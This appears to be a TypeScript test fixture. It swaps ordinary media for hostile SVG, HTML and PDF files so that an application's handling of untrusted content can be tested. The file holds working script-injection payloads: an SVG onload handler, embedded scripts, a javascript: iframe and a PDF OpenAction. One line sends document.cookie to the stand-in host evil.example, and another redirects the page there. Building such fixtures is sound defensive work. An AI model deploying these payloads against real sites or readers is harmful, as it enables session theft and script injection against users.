import type { Media } from "../media.ts";

/** Malicious pictures and documents, under the harmless names. */
export function hostileMedia(
  media: (name: string) => Media | undefined,
): (name: string) => Media | undefined {
  return (name) => {
    const harmless = media(name);
    if (harmless === undefined) return undefined;
    if (name.endsWith(".svg")) return picture;
    const turn = Number(/\d+/.exec(name)?.[0] ?? 0) % 3;
    return [document, page, picture][turn] ?? harmless;
  };
}

const reach = "try{parent.alert(30)}catch{}alert(31);fetch('https://evil.example/'+document.cookie)";

/** Script, handler, and an embedded page. */
const picture: Media = {
  contentType: "image/svg+xml",
  body: `<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480" onload="alert(32)"><script>${reach}</script><rect width="640" height="480" fill="#c33"/><foreignObject width="640" height="480"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(33)"/></foreignObject></svg>`,
};

/** A page instead of a document. */
const page: Media = {
  contentType: "text/html; charset=utf-8",
  body: `<!doctype html><title>x</title><body><script>${reach};top.location='https://evil.example/'</script><p>page</p></body>`,
};

/** Runs script on opening. */
const document: Media = {
  contentType: "application/pdf",
  body: `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(34\\);)>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/URI/URI(https://evil.example/)>>>>>>endobj
trailer<</Root 1 0 R>>
`,
};
